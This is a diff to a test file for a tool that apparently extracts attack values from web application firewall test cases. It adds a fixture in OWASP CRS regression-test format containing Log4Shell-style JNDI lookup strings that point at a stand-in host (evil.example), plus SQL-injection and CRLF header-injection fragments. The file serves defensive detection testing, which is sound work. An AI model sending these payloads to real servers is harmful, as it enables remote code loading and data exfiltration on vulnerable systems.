@@ -1,5 +1,5 @@
 import t from 'tap'
-import { codeLiterals, jsonFields, jsonStrings, parseCsic, stripNotes, yamlItems } from './eval/build.ts'
+import { codeLiterals, ftwValues, jsonFields, jsonStrings, parseCsic, stripNotes, yamlItems } from './eval/build.ts'
 import { FRESH2_SOURCES, FRESH_SOURCES, SOURCES } from './eval/sources.ts'
 import { asUrl, backupProbes, fragmentReason, hash32, partOf, placeAttack, placeBenign, queryValue } from './eval/place.ts'
 
@@ -145,4 +145,40 @@ t.test('the second fresh sources are cut as written: WAF test cases in JSON and 
   t.same(yamlItems(yaml, 'payload'), ['%0d%0aSet-Cookie:crlf=injection', 'a\tb "q"', "it''s plain"])
   t.same(yamlItems(yaml, 'payloads'), ['%0a'], 'nested keys under the key, up to the next key as shallow')
   t.ok(yamlItems(yaml).includes('URL'), 'without a key: every one-line item')
+})
+
+t.test('a WAF\'s regression tests: the values of the requests expected to be detected, not the harness\'s', async (t) => {
+  const ftw = [
+    'rule_id: 944150',
+    'tests:',
+    '  - test_id: 1',
+    '    stages:',
+    '      - input:',
+    '          headers:',
+    '            Host: localhost',
+    '            User-Agent: "OWASP CRS test agent ${jndi:ldap://evil.example/a}"',
+    '            Cookie: a=1; b=%27or%201',
+    '          method: GET',
+    '          uri: "/get?x=%24%7Bjndi%3Aldap%7D&y=2"',
+    '        output:',
+    '          log:',
+    '            expect_ids: [944150]',
+    '  - test_id: 2',
+    '    stages:',
+    '      - input:',
+    '          uri: "/post"',
+    '          data: "foo=bar;id&z=1"',
+    '        output:',
+    '          log:',
+    '            no_expect_ids: [944150]',
+    '  - test_id: 3',
+    '    stages:',
+    '      - input:',
+    '          uri: /post',
+    '          data: |',
+    '            <x>${jndi:dns://evil.example}</x>',
+    '        output:',
+    '          log_contains: id "944150"',
+  ].join('\n')
+  t.same(ftwValues(ftw), ['${jndi:ldap://evil.example/a}', '1', '%27or%201', '/get', '%24%7Bjndi%3Aldap%7D', '2', '/post', '<x>${jndi:dns://evil.example}</x>'])
 })
